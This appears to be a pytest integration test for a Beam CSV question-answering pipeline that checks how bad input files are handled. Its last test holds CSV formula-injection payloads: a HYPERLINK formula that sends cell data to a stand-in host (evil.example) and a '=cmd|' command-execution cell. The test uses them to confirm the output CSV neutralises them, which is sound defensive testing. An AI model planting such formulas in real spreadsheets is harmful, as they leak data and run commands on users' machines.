"""The bad-input catalogue (docs/bad-input.md) through the real bounded pipeline and PostgreSQL.

All cases go through one bounded run (tiny model, ``--max_rows`` below the 100,000-row case so
that it is rejected cheaply); each case is then checked on its own.
"""

from __future__ import annotations

import pytest
from apache_beam.metrics.metric import MetricsFilter

from beam_qa.launch import run
from tests.bad_input_cases import CASES, MAX_ROWS, check_outcome
from tests.conftest import fresh_database, query

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def catalogue_run(tmp_path_factory, tiny_model):
    """Writes every case into one directory and runs the bounded pipeline over it once."""
    folder = tmp_path_factory.mktemp("bad-input") / "in"
    folder.mkdir()
    generations = {}
    for case in CASES:
        path = folder / case.file_name
        path.write_bytes(case.build())
        generations[case.name] = (str(path), path.stat().st_mtime_ns)
    dsn = fresh_database("beam_qa_badinput_bounded")
    result = run([f"--input_pattern={folder / '*.csv'}", f"--model={tiny_model}", f"--pg_dsn={dsn}",
                  f"--max_rows={MAX_ROWS}"])
    return folder, dsn, generations, result


def _read_local(path: str) -> bytes:
    with open(path, "rb") as handle:
        return handle.read()


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_bad_input_case(catalogue_run, case):
    folder, dsn, generations, _ = catalogue_run
    uri, generation = generations[case.name]
    check_outcome(case, dsn, uri, generation, _read_local)
    # Answered sources are deleted; failed ones moved under errors/ (checked byte for byte above),
    # both named with the file's generation.
    assert not (folder / case.file_name).exists()
    if case.kind:
        assert (folder / "errors" / f"{case.name}.{generation}.csv").exists()
    else:
        assert (folder / "answers" / f"{case.name}.{generation}.answers.csv").exists()


def test_every_file_ends_in_exactly_one_state(catalogue_run):
    _, dsn, _, result = catalogue_run
    assert query(dsn, "SELECT status, count(*) FROM qa_files GROUP BY status ORDER BY status") == [
        ("done", sum(1 for c in CASES if not c.kind)), ("failed", sum(1 for c in CASES if c.kind))]
    counters = {}
    for item in result.metrics().query(MetricsFilter().with_namespace("beam_qa"))["counters"]:
        counters[item.key.metric.name] = counters.get(item.key.metric.name, 0) + item.committed
    assert counters["files_done"] + counters["files_failed"] == len(CASES)
    for kind in {c.kind for c in CASES if c.kind}:
        assert counters[f"file_errors_{kind}"] == sum(1 for c in CASES if c.kind == kind), kind


def test_formula_cells_are_verbatim_in_postgres_and_neutralised_in_the_csv(catalogue_run):
    folder, dsn, generations, _ = catalogue_run
    uri, generation = generations["formula_injection"]
    stored = query(dsn, "SELECT id, question FROM qa_answers WHERE source_uri = %s ORDER BY row_index", (uri,))
    assert stored[0] == ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    text = (folder / "answers" / f"formula_injection.{generation}.answers.csv").read_bytes().decode()
    assert text.startswith('"id","question","context","\'=cmd|\' /C calc\'!A0","answer",')
    assert '\r\n"\'=1+1","\'=HYPERLINK(' in text
